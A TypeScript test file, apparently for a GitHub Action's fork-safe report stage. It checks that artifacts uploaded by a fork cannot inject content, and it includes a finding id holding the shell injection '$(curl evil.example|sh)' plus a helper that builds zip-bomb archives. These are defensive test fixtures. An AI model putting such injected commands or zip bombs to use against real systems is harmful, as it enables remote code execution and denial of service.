/**
 * Mode report in process: the fork-safe stage 2 (workflow_run) reading the PR run's artifacts
 * through the REST API of the loopback GitHub, and the hostile artifacts a fork's stage 1 may have
 * chosen. __tests__/e2e/report-mode.test.ts runs the bundle (matrix merge, hostile text).
 */
import { REPORT_SCHEMA_VERSION } from '../../src/model/report.js';
import { deflateRawSync } from 'node:zlib';
import { serializeReport } from '../../src/report/json.js';
import { workspace } from '../helpers/action-workspace.js';
import { runInProcess, type InProcessResult } from '../helpers/fake-action-host.js';
import type { FakeGitHub } from '../helpers/fake-github.js';
import { crc32, deflatedZip } from '../helpers/fake-github-zip.js';
import { useFakeGitHub } from '../helpers/fake-github-runner.js';
import { finding, makeReport, row } from '../report/report-factory.js';

const REPOSITORY = { full_name: 'octo/gpu-app', default_branch: 'main' };
const HEAD = 'b'.repeat(40);
const FORK_PR = { pull_request: { number: 7, head: { sha: HEAD, repo: { full_name: 'mallory/gpu-app' } } }, repository: REPOSITORY };

let fake: FakeGitHub;
useFakeGitHub((started) => (fake = started));

const workflowRun = (runId: number, pullRequests: number[] = []) => ({
  workflow_run: { id: runId, event: 'pull_request', head_sha: HEAD, pull_requests: pullRequests.map((number) => ({ number })) },
  repository: REPOSITORY,
});

describe('fork-safe: pull_request uploads, workflow_run comments', () => {
  async function stageOne(): Promise<void> {
    // The fork's run: its token is read-only, so its own comment is refused; it still uploads.
    fake.fail('comments.create', { status: 403, body: { message: 'Resource not accessible by integration' } });
    const first = await runInProcess({ fake, runId: 600, event: FORK_PR, workspace: workspace(), inputs: { captures: 'captures', key: 'llama' } });
    expect(first.code).toBe(0);
    expect(first.notices).toHaveLength(1);
    expect(fake.artifactsOfRun(600).map((a) => a.name)).toEqual(['profile-gate-llama', 'profile-gate-llama-captures']);
  }

  it('reads the artifacts of the PR run and comments on the PR it names, once its head matches', async () => {
    await stageOne();
    fake.pulls.set(7, { headSha: HEAD, headRepo: 'mallory/gpu-app' });
    const r = await runInProcess({ fake, runId: 601, eventName: 'workflow_run', event: workflowRun(600), job: 'comment', inputs: { mode: 'report' } });
    expect(r.failures).toEqual([]);
    // Through the REST API with the token: list the run's artifacts, then the 302 to the zip.
    expect(fake.hits('artifacts.list')[0]!.authorization).toBe('Bearer ghs_faketoken');
    expect(fake.hits('artifacts.download').map((h) => h.status)).toEqual([302]);
    expect(fake.hits('artifacts.zip').map((h) => h.status)).toEqual([200]);
    expect(fake.hits('pulls.get')).toHaveLength(1);
    const comments = fake.commentsOn(7);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body.split('\n')[0]).toBe('<!-- profile-gate:report -->');
    expect(comments[0]!.body).toContain('## profile-gate: ⚠️ Warn · llama');
    expect(r.summary).toContain('https://github.com/octo/gpu-app/actions/runs/600');
    expect(r.outputs).toMatchObject({ verdict: 'warn', 'report-json': '', 'artifact-id': '', 'decode-tok-s': '', 'comment-url': comments[0]!.html_url });
    expect(r.host.log).toContain("Found 1 report artifact(s) named 'profile-gate-*' in run 600.");
  });

  it('does not comment when the PR named by the artifact has another head', async () => {
    await stageOne();
    fake.pulls.set(7, { headSha: 'c'.repeat(40), headRepo: 'mallory/gpu-app' });
    const r = await runInProcess({ fake, runId: 601, eventName: 'workflow_run', event: workflowRun(600), inputs: { mode: 'report' } });
    expect(r.code).toBe(0);
    expect(fake.commentsOn(7)).toHaveLength(0);
    expect(r.warnings.some((w) => w.startsWith('PR #7 named by the artifacts has head cccccccccccc, not the commit bbbbbbbbbbbb'))).toBe(true);
    expect(r.summary).toContain('## profile-gate: ⚠️ Warn · llama');
  });

  // Before, every id of the reports went into the findings output, a fork's shell syntax included.
  it("the findings output carries only known finding ids: a fork's report cannot put shell syntax into it", async () => {
    const report = makeReport({ verdict: 'warn', findings: [finding({ id: 'host-bound' }), finding({ id: '$(curl evil.example|sh)' }), finding({ id: 'unfused-attention', severity: 'error' })] });
    fake.addArtifact(710, 'profile-gate-a', { 'profile-gate/report.json': serializeReport(report) });
    const r = await runInProcess({ fake, runId: 711, eventName: 'workflow_run', event: workflowRun(710), inputs: { mode: 'report', comment: 'off' } });
    expect(r.code).toBe(0);
    expect(r.outputs['findings']).toBe('host-bound,unfused-attention');
  });

  it('fail-verdicts judge the merged verdict: a failing leg fails the job, with its reasons', async () => {
    const regressed = row({ baseline: 100, current: 83, delta: -0.17, ci: [-0.19, -0.15], pValue: 0.001, samples: [5, 5], threshold: 0.03, status: 'fail', reading: { kind: 'metric', outcome: 'regressed', level: 0.9 } });
    const failing = makeReport({ workload: 'slow', verdict: 'fail', rows: [regressed] });
    fake.addArtifact(720, 'profile-gate-slow', { 'profile-gate/report.json': serializeReport(failing) });
    fake.addArtifact(720, 'profile-gate-ok', { 'profile-gate/report.json': serializeReport(makeReport({ workload: 'ok', verdict: 'warn' })) });
    const r = await runInProcess({ fake, runId: 721, eventName: 'workflow_run', event: workflowRun(720), inputs: { mode: 'report', comment: 'off' } });
    expect(r.outputs['verdict']).toBe('fail');
    expect(r.code).toBe(1);
    // The leg's line is written from its row.
    expect(r.failures).toEqual(['profile-gate verdict: fail (slow: decode_tok_s regressed (100.0 tok/s → 83.00 tok/s, −17.0%; 90% CI −19.0% … −15.0%, p=0.001, 5 vs 5 samples), beyond the 3% floor; see the job summary)']);
    // The workflow's own list decides: without fail in it, the same merge passes the job.
    const lenient = await runInProcess({ fake, runId: 722, eventName: 'workflow_run', event: workflowRun(720), inputs: { mode: 'report', comment: 'off', 'fail-verdicts': 'invalid' } });
    expect(lenient.code).toBe(0);
  });

  it.each([
    ['written by a newer profile-gate', { schemaVersion: REPORT_SCHEMA_VERSION + 1 }, new RegExp(`expected schemaVersion ≤ ${REPORT_SCHEMA_VERSION}; this report was written by a newer profile-gate`)],
    ['with a misspelt field', null, /report\.json/],
  ])('a leg %s fails the job unless allow-unreadable-reports, and never lets the other leg speak for it', async (_what, body, why) => {
    const good = serializeReport(makeReport({ workload: 'ok', verdict: 'warn' }));
    const bad = body ? JSON.stringify(body) : good.replace('"verdict":', '"verdikt":');
    expect(bad).not.toBe(good);
    fake.addArtifact(730, 'profile-gate-ok', { 'profile-gate/report.json': good });
    fake.addArtifact(730, 'profile-gate-new', { 'profile-gate/report.json': bad });
    const r = await runInProcess({ fake, runId: 731, eventName: 'workflow_run', event: workflowRun(730), inputs: { mode: 'report', comment: 'off' } });
    expect(r.code).toBe(1);
    expect(r.failures).toHaveLength(1);
    expect(r.failures[0]).toMatch(/^profile-gate report: 1 report\(s\) could not be read, so the merged verdict does not cover every leg: Skipped a report: /);
    expect(r.failures[0]).toMatch(why);
    expect(r.failures[0]).toContain("set input 'allow-unreadable-reports: true' to merge the rest");
    const allowed = await runInProcess({ fake, runId: 732, eventName: 'workflow_run', event: workflowRun(730), inputs: { mode: 'report', comment: 'off', 'allow-unreadable-reports': 'true' } });
    expect(allowed.code).toBe(0);
    expect(allowed.outputs['verdict']).toBe('warn');
    expect(allowed.warnings.some((w) => w.startsWith('Skipped a report: '))).toBe(true);
  });

  it('trusts the PR GitHub links to the run without asking', async () => {
    fake.addArtifact(700, 'profile-gate-a', { 'profile-gate/report.json': serializeReport(makeReport({ verdict: 'pass', rows: [row()] })) });
    const r = await runInProcess({ fake, runId: 701, eventName: 'workflow_run', event: workflowRun(700, [12]), inputs: { mode: 'report' } });
    expect(r.code).toBe(0);
    expect(fake.hits('pulls.get')).toHaveLength(0);
    expect(fake.commentsOn(12)).toHaveLength(1);
  });
});

// ---------------------------------------------------------------------------------------------
// Hostile artifacts in the fork-safe report stage: each is left out in one line; the good leg is
// still merged, and the summary and the comment are still written.

const STAGE_ONE = 600;

/**
 * One deflated report.json, and `names` central-directory entries all pointing at its data: the
 * 65,000-entry bomb is 3.7 MB of directory around one body.
 */
function sharedBodyZip(data: Buffer, names: number): Buffer {
  const packed = deflateRawSync(data);
  const name = Buffer.from('report.json');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc32(data), 14);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(name.length, 26);
  const entry = Buffer.alloc(46);
  entry.writeUInt32LE(0x02014b50, 0);
  entry.writeUInt16LE(8, 10);
  entry.writeUInt32LE(crc32(data), 16);
  entry.writeUInt32LE(packed.length, 20);
  entry.writeUInt32LE(data.length, 24);
  entry.writeUInt16LE(name.length, 28);
  const central = Buffer.concat(Array.from({ length: names }, () => Buffer.concat([entry, name])));
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Math.min(names, 0xfffe), 8);
  end.writeUInt16LE(Math.min(names, 0xfffe), 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(30 + name.length + packed.length, 16);
  return Buffer.concat([local, name, packed, central, end]);
}

function stageOneUploads(hostile: Record<string, Buffer>): void {
  fake.registerRun({ id: STAGE_ONE, event: 'pull_request', status: 'completed', conclusion: 'success', head_branch: 'feature', head_sha: HEAD, headRepositoryId: 999 });
  fake.addArtifact(STAGE_ONE, 'profile-gate-llama', { 'report.json': serializeReport(makeReport({ workload: 'llama' })) });
  for (const [name, zip] of Object.entries(hostile)) {
    const artifact = fake.addArtifact(STAGE_ONE, name, {});
    artifact.zip = zip;
    artifact.size = zip.length;
  }
}

const stageTwo = (env: Record<string, string> = {}) =>
  runInProcess({ fake, runId: 601, eventName: 'workflow_run', event: workflowRun(STAGE_ONE, [7]), job: 'comment', inputs: { mode: 'report' }, env });

/** The good leg is merged and published; the job fails on the legs left out (allow-unreadable-reports is off). */
function expectStillPublished(r: InProcessResult): void {
  expect(r.failures).toHaveLength(1);
  expect(r.failures[0]).toMatch(/^profile-gate report: \d+ report\(s\) could not be read, so the merged verdict does not cover every leg: Skipped artifact '/);
  expect(r.summary.split('\n')[0]).toMatch(/^## profile-gate: /);
  expect(r.summary).toContain('llama');
  expect(fake.commentsOn(7)).toHaveLength(1);
}

const skippedArtifacts = (r: InProcessResult) => r.warnings.filter((w) => w.startsWith('Skipped artifact'));

describe('hostile artifacts in the fork-safe report stage', () => {
  it('a 65,000-entry directory around one 8 MiB report.json: refused before inflating anything', async () => {
    const report = Buffer.concat([Buffer.from(serializeReport(makeReport({ workload: 'bomb' })).replace(/}\s*$/, ', "pad": "')), Buffer.alloc(8 << 20, 0x61), Buffer.from('"}')]);
    const bomb = sharedBodyZip(report, 65_000);
    expect(bomb.length).toBeLessThan(5 << 20);
    stageOneUploads({ 'profile-gate-bomb': bomb, 'profile-gate-shared': sharedBodyZip(report, 50) });
    const r = await stageTwo();
    expectStillPublished(r);
    expect(skippedArtifacts(r)).toEqual([
      "Skipped artifact 'profile-gate-bomb': not a readable zip: 65000 entries; expected at most 10000",
      `Skipped artifact 'profile-gate-shared': not a readable zip: report.json: shares its data at byte 0 with another entry; a well-formed archive stores each file once`,
    ]);
  });

  it('a report.json that inflates past the cap, and more reports than the total cap holds', async () => {
    const big = Buffer.alloc(80 << 20, 0x20);
    const small = Buffer.from(serializeReport(makeReport({ workload: 'leg' })));
    const many = Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`leg-${i}/report.json`, small]));
    stageOneUploads({ 'profile-gate-inflates': sharedBodyZip(big, 1), 'profile-gate-many': deflatedZip(many) });
    const r = await stageTwo({ PROFILE_GATE_MAX_UNZIPPED_BYTES: String(small.length * 5) });
    expectStillPublished(r);
    expect(r.warnings).toContain("Skipped artifact 'profile-gate-inflates': not a readable zip: report.json: 83886080 bytes uncompressed; expected at most 67108864");
    expect(r.warnings.some((w) => /^Skipped artifact 'profile-gate-many': not a readable zip: leg-5\/report\.json: the entries read add up to more than \d+ bytes uncompressed; stopped reading$/.test(w))).toBe(true);
  });

  it('a storage server that sends one byte at a time is cut by the idle timeout', async () => {
    stageOneUploads({ 'profile-gate-a-slow': deflatedZip({ 'report.json': Buffer.from(serializeReport(makeReport({ workload: 'slow' }))) }) });
    fake.fail('artifacts.zip', { status: 200, trickleMs: 1500 });
    const started = Date.now();
    const r = await stageTwo({ PROFILE_GATE_IDLE_TIMEOUT_MS: '400' });
    expectStillPublished(r);
    expect(skippedArtifacts(r)).toEqual(["Skipped artifact 'profile-gate-a-slow': the server sent nothing for 400 ms while sending the artifact zip (1 bytes so far); stopped waiting"]);
    expect(Date.now() - started).toBeLessThan(15_000);
  });

  it('an API that never answers the artifact list: one line, in the failure and the summary', async () => {
    stageOneUploads({});
    fake.fail('artifacts.list', { status: 200, hang: true, times: 2 });
    const r = await stageTwo({ PROFILE_GATE_CONNECT_TIMEOUT_MS: '400', PROFILE_GATE_RETRY_ATTEMPTS: '2', PROFILE_GATE_RETRY_BASE_MS: '10' });
    expect(r.code).toBe(1);
    expect(r.failures).toEqual([
      'cannot list the report artifacts of run 600: GitHub could not be reached (no answer within 400 ms) on GET /repos/{owner}/{repo}/actions/runs/{run}/artifacts after 2 attempts (reading artifacts needs the permission actions: read)',
    ]);
    expect(r.errors).toEqual([]);
    expect(r.summary).toContain('cannot list the report artifacts of run 600: GitHub could not be reached');
  });
});
